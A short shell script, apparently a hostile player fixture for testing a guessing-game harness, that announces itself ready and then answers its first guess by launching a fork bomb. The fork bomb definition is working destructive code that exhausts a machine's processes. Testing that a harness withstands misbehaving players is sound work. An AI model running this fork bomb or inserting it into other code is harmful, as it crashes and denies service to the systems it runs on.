#!/bin/sh
# Hostile: says ready, then answers its first 'guess' with a fork bomb and waits.
bomb() { bomb | bomb & }
while read -r word rest; do
  case $word in
    moo) echo "ready forkbomb" ;;
    guess) bomb; wait ;;
  esac
done
